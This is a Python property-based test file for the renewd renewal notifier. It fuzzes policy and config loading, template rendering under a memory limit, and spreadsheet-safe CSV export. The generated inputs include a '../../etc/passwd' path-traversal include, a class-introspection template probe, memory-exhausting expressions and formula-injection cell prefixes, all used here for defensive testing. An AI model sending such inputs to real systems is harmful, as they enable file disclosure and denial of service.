    return PLACEHOLDER.sub(lambda m: RAW[int(m.group(1))], text)


def nested(kind: str, depth: int) -> str:
    """A rule whose condition (or a plain list) nests `depth` levels deep, as flow YAML."""
    inner = "{is_paid: true}"
    opening, closing = {
        "not": ("{not: ", "}"),
        "any": ("{any: [", "]}"),
        "mixed": ("{any: [{all: [", "]}]}"),
        "list": ("[", "]"),
    }[kind]
    when = "{all: [{days_to_expiry: 3}, " + opening * depth + inner + closing * depth + "]}"
    return (
        "timezone: UTC\neditions: {free: [free], paid: [standard]}\n"
        f"rules:\n  - id: deep\n    when: {when}\n    then: {{notify: [email]}}\n"
    )


def duplicate_line(data: bytes, at: int) -> bytes:
    lines = data.split(b"\n")
    keep = at % len(lines)
    return b"\n".join([*lines[: keep + 1], *lines[keep:]])


Mutation = Callable[[bytes, int], bytes]
MUTATIONS: dict[str, Mutation] = {
    "tab": lambda data, at: data[:at] + b"\t" + data[at:],
    "cut": lambda data, at: data[:at],
    "drop": lambda data, at: data[:at] + data[at + 1 :],
    "not-utf8": lambda data, at: data[:at] + b"\xff\xfe" + data[at:],
    "control": lambda data, at: data[:at] + b"\x01" + data[at:],
    "nul": lambda data, at: data[:at] + b"\x00" + data[at:],
    "bom": lambda data, _: BOM + data,
    "duplicate-line": duplicate_line,
    "second-document": lambda data, _: data + b"\n---\ntimezone: UTC\n",
    "bracket": lambda data, at: data[:at] + b"[{" + data[at:],
}


@st.composite
def policy_bytes(draw: st.DrawFn) -> bytes:
    choice = draw(st.sampled_from(["generated", "generated", "generated", "deep", "empty"]))
    if choice == "empty":
        return draw(st.sampled_from([b"", b"# only a comment\n", b"   \n\n", b"---\n", b"~\n"]))
    if choice == "deep":
        kind = draw(st.sampled_from(["not", "any", "mixed", "list"]))
        text = nested(kind, draw(st.sampled_from([5, 12, 20, 60, 150, 400, 2000])))
    else:
        text = dump(draw(DOCUMENTS), draw(st.booleans()), draw(st.sampled_from([60, 10**6])))
    data = text.encode("utf-8")
    for name in draw(st.lists(st.sampled_from(sorted(MUTATIONS)), max_size=2)):
        data = MUTATIONS[name](data, draw(st.integers(0, max(len(data) - 1, 0))))
    return data


FILE_LEVEL = (
    "cannot read",
    "not UTF-8 text",
    "empty policy file",
    "no policy file sets",
)


def yaml_syntax_error(data: bytes) -> bool:
    """True when PyYAML itself cannot even compose the text (so the problem has a line)."""
    try:
        yaml.compose(data.decode("utf-8"), Loader=yaml.SafeLoader)
    except UnicodeDecodeError:
        return False
    except (yaml.YAMLError, RecursionError):
        return True
    return False


def check_problems(problems: list[Problem], path: Path, data: bytes) -> None:
    assert problems
    for problem in problems:
        assert problem.path == str(path)
        assert isinstance(problem.line, int) and problem.line >= 0
        assert problem.message.strip() and "\n" not in problem.message, problem
        if problem.line == 0:
            assert problem.message.startswith(FILE_LEVEL), problem
        if problem.message.startswith("unknown key"):
            assert problem.line > 0
    if yaml_syntax_error(data):
        [problem] = problems
        assert problem.line > 0, problem


@budget(600)
@given(policy_bytes())
def test_a_policy_file_loads_or_every_problem_has_a_place(data: bytes) -> None:
    with scratch() as tmp:
        path = tmp / "policy.yaml"
        path.write_bytes(data)
        try:
            policy = load_policy([path])
        except ProblemsError as exc:
            check_problems(exc.problems, path, data)
            return
    assert isinstance(policy, Policy)
    assert all(re.fullmatch(r"[a-z0-9][a-z0-9-]{0,62}", rule.id) for rule in policy.rules)


CHECK_LINE = re.compile(r"^.+:\d+: .+$|^.+: .+$")


@budget(150)
@given(policy_bytes())
def test_renewd_check_reports_each_problem_on_one_line(data: bytes) -> None:
    with scratch() as tmp:
        policy = tmp / "policy.yaml"
        policy.write_bytes(data)
        config = tmp / "config.yaml"
        config.write_text(f"rules: {policy}\n", encoding="utf-8")
        result = cli("check", "--config", str(config))
    assert "Traceback" not in result.output
    assert result.exception is None or isinstance(result.exception, SystemExit), result.exception
    assert result.exit_code in (0, 1), result.output
    lines = result.stderr.splitlines()
    assert bool(lines) == (result.exit_code == 1)
    assert all(CHECK_LINE.match(line) for line in lines), lines


def test_a_missing_policy_file_is_a_problem_not_a_traceback(tmp_path: Path) -> None:
    config = tmp_path / "config.yaml"
    config.write_text("rules: nowhere.yaml\n", encoding="utf-8")
    result = cli("check", "--config", str(config))
    assert result.exit_code == 1, result.exception
    assert result.stderr == (
        f"{config}:1: rules: no such file or directory: {tmp_path / 'nowhere.yaml'}\n"
    )


def test_a_policy_durable_rules_refuses_is_an_error_not_a_traceback(tmp_path: Path) -> None:
    policy = tmp_path / "policy.yaml"
    policy.write_text(nested("any", 20), encoding="utf-8")
    config = tmp_path / "config.yaml"
    config.write_text(f"rules: {policy}\n", encoding="utf-8")
    snapshot = tmp_path / "s.csv"
    snapshot.write_text(SMALL_HEADER + small_row("mb-1"), encoding="utf-8")
    result = cli("dry-run", "--config", str(config), "--snapshot", str(snapshot))
    assert result.exit_code == 2, result.exception
    assert result.stderr.startswith(f"{policy}")


# --- property 4: valid generic rules compile and durable_rules runs them ----------------------------

BOOL_FACTS = sorted(name for name, kind in FACTS.items() if kind is FactType.BOOL)


@dataclass
class ValidRule:
    id: str
    days: list[int]  # the days_to_expiry values on which it can match
    written: Any  # how the day condition is written
    flags: dict[str, bool]  # boolean facts it requires, written as `fact: value`
    negated: bool  # whether the flags are written as `not: {any: [...opposites]}`


@st.composite
def valid_rules(draw: st.DrawFn, rule_id: str) -> ValidRule:
    form = draw(st.sampled_from(["eq", "in", "between"]))
    written: Any
    if form == "eq":
        day = draw(st.integers(-365, 365))
        days, written = [day], day
    elif form == "in":
        days = draw(st.lists(st.integers(-365, 365), min_size=1, max_size=8, unique=True))
        written = {"in": days}
    else:
        low = draw(st.integers(-365, 365))
        high = draw(st.integers(low, low + 30))
        days, written = list(range(low, high + 1)), {"between": [low, high]}
    flags = draw(st.dictionaries(st.sampled_from(BOOL_FACTS), st.booleans(), max_size=3))
    return ValidRule(rule_id, days, written, flags, draw(st.booleans()) and bool(flags))


def rule_document(rule: ValidRule) -> dict[str, Any]:
    when: list[Any] = [{"days_to_expiry": rule.written}]
    if rule.negated:
        when.append({"not": {"any": [{k: not v} for k, v in rule.flags.items()]}})
    else:
        when.extend({k: v} for k, v in rule.flags.items())
    return {"id": rule.id, "when": {"all": when}, "then": {"notify": ["email"]}}


def facts_for(days_to_expiry: int, flags: dict[str, bool]) -> dict[str, Any]:
    neutral = {FactType.INT: 12, FactType.BOOL: False, FactType.MONEY: 0, FactType.STR: "x"}
    facts = {name: neutral[kind] for name, kind in FACTS.items()}
    facts.update(days_to_expiry=days_to_expiry, days_since_expiry=-days_to_expiry, **flags)
    facts.pop("domain_days_to_expiry")
    return facts


RULE_SETS = st.lists(
    st.from_regex(r"[a-z][a-z0-9-]{0,12}", fullmatch=True), min_size=1, max_size=4, unique=True
).flatmap(lambda ids: st.tuples(*(valid_rules(i) for i in ids)))


@budget(100)
@given(RULE_SETS)
def test_valid_generic_rules_compile_and_match(rules: tuple[ValidRule, ...]) -> None:
    document = {
        "timezone": "Asia/Shanghai",
        "editions": {"free": ["free"], "paid": ["standard"]},
        "rules": [rule_document(r) for r in rules],
    }
    with scratch() as tmp:
        path = tmp / "policy.yaml"
        path.write_text(yaml.safe_dump(document, sort_keys=False), encoding="utf-8")
        policy = load_policy([path])
    assert [r.id for r in policy.rules] == [r.id for r in rules]
    evaluator = Evaluator(policy)
    for written, compiled in zip(rules, policy.rules, strict=True):
        assert compiled.anchor is Anchor.EXPIRY
        assert compiled.steps == frozenset(-d for d in written.days)
        day = written.days[len(written.days) // 2]
        assert written.id in evaluator.engine.matches(facts_for(day, written.flags))
        outside = max(written.days) + 1
        assert written.id not in evaluator.engine.matches(facts_for(outside, written.flags))
        if written.flags:
            flipped = {k: not v for k, v in written.flags.items()}
            assert written.id not in evaluator.engine.matches(facts_for(day, flipped))


# --- property 5: config files, near misses and secrets in the wrong place -------------------------

SECRET = "hunter2-s3cret"
PATHS = {"rules", "snapshot", "templates", "ledger", "path", "password_file", "ca_file", "backend"}
GOOD_CONFIG: dict[str, Any] = {
    "rules": str(ROOT / "rules"),
    "snapshot": "snapshots/{date}.csv",
    "ledger": "state/ledger.sqlite3",
    "default_locale": "en",
    "locales": ["en", "zh-CN"],
    "catch_up_days": 31,
    "messages": {"brand": "Example", "renewal_url": "https://x.example/{mailbox_id}"},
    "guards": {"max_deletion_share": 0.01, "min_deletions": 10},
    "serve": {"run_at": "02:00", "overdue_hours": 26, "listen": "", "alert_to": ["o@x.example"]},
    "billing": {"backend": "ledger"},
    "senders": {
        "email": {
            "backend": "smtp", "host": "mail.example.com", "from": "r@x.example",
            "username": "renewd", "password_env": "HOME", "port": 587, "timeout": 30,
        },
        "sms": {"backend": "console", "window": "09:00-21:00"},
    },
}  # fmt: skip


@st.composite
def config_documents(draw: st.DrawFn) -> Any:
    """The good config with up to four slips: a typo, a value of the wrong type, the secret
    written where a number or a name belongs, a key dropped or a value put in a list."""
    document = copy.deepcopy(GOOD_CONFIG)
    for _ in range(draw(st.integers(0, 4))):
        target = draw(st.sampled_from(containers(document)))
        if isinstance(target, dict) and target:
            key = draw(st.sampled_from(list(target)))
            slip = draw(st.sampled_from(["typo", "junk", "secret", "drop", "listify"]))
            if slip == "typo" and len(key) > 1:
                target[draw(st.sampled_from(typos(key)))] = target.pop(key)
            elif slip == "drop":
                del target[key]
            elif slip == "listify":
                target[key] = [target[key]]
            elif slip == "secret" and key not in PATHS:
                target[key] = draw(st.sampled_from([SECRET, [SECRET], {"x": SECRET}]))
            else:
                target[key] = draw(JUNK)
        elif isinstance(target, list) and target:
            target[draw(st.integers(0, len(target) - 1))] = draw(st.one_of(JUNK, st.just(SECRET)))
    return document


@st.composite
def config_bytes(draw: st.DrawFn) -> bytes:
    document = draw(st.one_of(config_documents(), config_documents(), JUNK))
    data = dump(document, draw(st.booleans()), draw(st.sampled_from([60, 10**6]))).encode()
    for name in draw(st.lists(st.sampled_from(sorted(MUTATIONS)), max_size=1)):
        data = MUTATIONS[name](data, draw(st.integers(0, max(len(data) - 1, 0))))
    return data


@budget(300)
@given(config_bytes())
def test_a_config_loads_or_check_says_each_problem_on_one_line_without_the_secret(
    data: bytes,
) -> None:
    with scratch() as tmp:
        config = tmp / "config.yaml"
        config.write_bytes(data)
        result = CliRunner().invoke(
            main, ["check", "--config", str(config)], env={"HOME": str(tmp)}
        )
    assert result.exception is None or isinstance(result.exception, SystemExit), result.exception
    # 1: problems in a config it could read; 2: a config it could not use at all (not UTF-8)
    assert result.exit_code in (0, 1, 2), result.output
    assert SECRET not in result.output
    lines = result.stderr.splitlines()
    assert bool(lines) == (result.exit_code != 0)
    assert all(CHECK_LINE.match(line) for line in lines), lines


# --- property 6: templates, in a child process with a memory limit --------------------------------

SIZES = [0, 1, 3, 1000, 100_000, 262_144, 262_145, 10**6, 10**9, 10**18]
NUMBER = st.sampled_from(SIZES)
EXPRESSIONS = st.one_of(
    st.sampled_from(["brand", "days_left", "'ab'", "[1, 2]", "(1, 'x')", "{'a': 1}", "none"]),
    st.builds("'x' * {}".format, NUMBER),
    st.builds("{} ** {}".format, st.sampled_from([0, 1, -1, 2, 10, 2.0]), NUMBER),
    st.builds("'%{}d' % 1".format, NUMBER),
    st.builds("'{{:>{}}}'.format(1)".format, NUMBER),
    st.builds("range({})|join('{}')".format, NUMBER, st.sampled_from(["", ",", "x" * 100])),
    st.builds(
        "'ab\\ncd'|{}({})".format,
        st.sampled_from(["center", "indent", "wordwrap", "truncate", "batch", "slice"]),
        NUMBER,
    ),
    st.builds("('x' * {}).{}({})".format, NUMBER, st.sampled_from(["center", "zfill"]), NUMBER),
    st.builds("(1).to_bytes({}, 'big')".format, NUMBER),
    st.sampled_from(["1 / 0", "none.x", "''.__class__", "lipsum(5)", "undefined_name"]),
)
STATEMENTS = st.recursive(
    st.one_of(
        st.builds("{{{{ {} }}}}".format, EXPRESSIONS),
        st.builds("{{{{ ({}) ~ ({}) }}}}".format, EXPRESSIONS, EXPRESSIONS),
        st.builds("{{% set v = [{}, {}] %}}{{{{ [v, v] }}}}".format, EXPRESSIONS, EXPRESSIONS),
        st.text(st.sampled_from("ab\n{}%#-"), max_size=8),
        st.sampled_from(
            [
                "{% include 'en/t/sms.txt' %}",  # itself
                "{% include '../../etc/passwd' %}",
                "{% include 'nope' %}",
                "{% macro m(n) %}{{ m(n + 1) }}{% endmacro %}{{ m(0) }}",
                "{% macro m(s) %}{{ m(s ~ s) }}{% endmacro %}{{ m('ab') }}",
            ]
        ),
    ),
    lambda inner: st.one_of(
        st.builds("{{% for i in range({}) %}}{}{{% endfor %}}".format, NUMBER, inner),
        st.builds("{{% if days_left %}}{}{{% else %}}{}{{% endif %}}".format, inner, inner),
        st.builds(
            "{{% set ns = namespace(s='ab') %}}{{% for i in range({}) %}}{{% set ns.s = ns.s ~ ns.s %}}{}{{% endfor %}}".format,
            NUMBER,
            inner,
        ),
        st.lists(inner, max_size=3).map("\n".join),
    ),
    max_leaves=6,
)


@budget(250)
@given(STATEMENTS)
def templates_render_or_fail_at_their_line(text: str) -> None:
    """Run by the test below in a child: any template renders within the output limit, or fails
    as a TemplateError at a line of its own file; never out of memory, never a hang."""
    from renewd.delivery.limits import MAX_OUTPUT
    from renewd.delivery.templating import Renderer, TemplateError

    with scratch() as tmp:
        part = tmp / "en" / "t" / "sms.txt"
        part.parent.mkdir(parents=True)
        part.write_text(text, encoding="utf-8")
        values = {"brand": "Example", "days_left": 3, "none": None}
        try:
            out = Renderer(tmp, "en").part("en", "t", "sms.txt", values)
        except TemplateError as exc:
            assert exc.path == str(part), exc
            assert 0 < exc.line <= text.count("\n") + 1, exc
            assert exc.message.strip() and "\n" not in exc.message
            assert exc.message != "ran out of memory"
            return
    assert len(out) <= MAX_OUTPUT


def test_templates_render_or_fail_at_their_line_within_a_memory_limit() -> None:
    """The property above in a child limited to 1 GiB: a limit that fails shows as a failed
    example (out of memory), or a timeout, not as a machine brought down."""
    code = (
        "import sys; sys.path[:0] = [sys.argv[1], sys.argv[2]]; import test_hostile; "
        "test_hostile.templates_render_or_fail_at_their_line()"
    )
    here = Path(__file__).parent
    done = subprocess.run(
        [sys.executable, "-c", code, str(here), str(here.parent)],
        capture_output=True,
        text=True,
        timeout=900,
        check=False,
        preexec_fn=lambda: resource.setrlimit(resource.RLIMIT_AS, (1 << 30, 1 << 30)),
    )
    assert done.returncode == 0, done.stdout + done.stderr


# --- property 7: CSV exports are safe to open in a spreadsheet ------------------------------------

CELLS = st.one_of(
    st.text(max_size=12),
    pieces(st.sampled_from(" \t\r\n\u00a0\u3000"), *FORMULAS, "-5", "=", "\uff1d", "a", '"', ","),
)


@budget(300)
@given(st.lists(CELLS, min_size=1, max_size=4))
def test_an_orders_export_never_starts_a_cell_with_a_formula(references: list[str]) -> None:
    columns = ORDER_COLUMNS
    rows = [
        {c: f"x{n}" for c in (*columns, "id")} | {"reference": r} for n, r in enumerate(references)
    ]
    out = io.StringIO()
    write_orders_csv(rows, out)  # type: ignore[arg-type]
    [header, *read] = list(csv.reader(io.StringIO(out.getvalue(), newline="")))
    assert header == list(columns)
    for original, row in zip(references, read, strict=True):
        cell = row[columns.index("reference")]
        assert cell in (original, "'" + original)
        first = cell.lstrip(" \t\r\n\u00a0\u3000")[:1]
        formula = first and first in "=+-@\uff1d\uff0b\uff0d\uff20"
        assert cell.startswith("'") or not (formula or cell[:1] in ("\t", "\r", "\n"))
